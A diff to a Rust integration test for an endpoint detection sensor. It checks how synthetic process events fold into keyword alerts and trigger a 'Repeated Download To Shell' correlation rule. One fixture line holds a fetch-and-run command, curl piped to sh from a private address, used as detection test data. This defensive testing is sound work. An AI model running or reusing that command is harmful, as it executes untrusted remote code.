@@ -1329,12 +1329,13 @@ correlation:
         sp.append(exec(pid, "curl -s http://10.9.9.9/x | sh").as_bytes())
             .unwrap();
     }
-    // A pipeline as the sensor sees it: the shell, a fork of it (its program still), and the
-    // fork executing `cat` (whose parent's command line holds the keyword).
+    // A pipeline as the sensor sees it: the shell; a fork of it (its program still) that
+    // executes `cat`, whose parent's command line holds the keyword; and a subshell that
+    // never executes anything, forked and exiting with the shell's command line.
     let pipeline = "echo mamori-keyword | cat";
     sp.append(exec(500, pipeline).as_bytes()).unwrap();
-    let child = |action: &str, cmd: &str| {
-        exec(501, cmd)
+    let child = |pid: u32, action: &str, cmd: &str| {
+        exec(pid, cmd)
             .replace(r#""action":"exec""#, &format!(r#""action":"{action}""#))
             .replace(
                 r#""parent":{"pid":1,"executable":"/usr/sbin/cron","command_line":"cron"}"#,
@@ -1343,8 +1344,10 @@ correlation:
                 ),
             )
     };
-    sp.append(child("fork", pipeline).as_bytes()).unwrap();
-    sp.append(child("exec", "cat").as_bytes()).unwrap();
+    sp.append(child(501, "fork", pipeline).as_bytes()).unwrap();
+    sp.append(child(501, "exec", "cat").as_bytes()).unwrap();
+    sp.append(child(502, "fork", pipeline).as_bytes()).unwrap();
+    sp.append(child(502, "exit", pipeline).as_bytes()).unwrap();
     sp.sync().unwrap();
     drop(sp);
     let shipped = Instant::now();
@@ -1356,8 +1359,9 @@ correlation:
         let corr = v
             .iter()
             .any(|a| a["rule_title"] == "Repeated Download To Shell");
-        let folded = v.iter().filter(|a| a["count"] == 2).count() >= 2;
-        if (corr && folded) || Instant::now() > deadline {
+        let folded = v.iter().any(|a| a["count"] == 2);
+        let pipeline = v.iter().any(|a| a["count"] == 4);
+        if (corr && folded && pipeline) || Instant::now() > deadline {
             break v;
         }
         std::thread::sleep(Duration::from_millis(100));
@@ -1384,16 +1388,26 @@ correlation:
         Some(3),
         "the contributing events are the evidence: {corr}"
     );
-    // A keyword rule: one alert on the shell, its fork folded into it; the child that
-    // executed `cat` does not match through its parent's command line.
+    // A keyword rule: one alert on the shell, its forks and the subshell's exit folded into
+    // it; the child that executed `cat` does not match through its parent's command line.
     let keyword: Vec<&serde_json::Value> = alerts
         .iter()
         .filter(|a| a["rule_title"] == "Test Keywords")
         .collect();
     assert_eq!(keyword.len(), 1, "one alert for the pipeline: {keyword:?}");
     assert_eq!(keyword[0]["process_entity"], "boot:500:1");
-    assert_eq!(keyword[0]["count"], 2, "the fork folded in: {}", keyword[0]);
-    assert_eq!(keyword[0]["evidence"][1]["event"]["action"], "fork");
+    assert_eq!(
+        keyword[0]["count"], 4,
+        "the forks folded in: {}",
+        keyword[0]
+    );
+    let actions: Vec<&str> = keyword[0]["evidence"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| e["event"]["action"].as_str().unwrap())
+        .collect();
+    assert_eq!(actions, ["exec", "fork", "fork", "exit"]);
     let alerts: Vec<&serde_json::Value> = alerts
         .iter()
         .filter(|a| a["rule_title"] == "Test Encoded Shell")
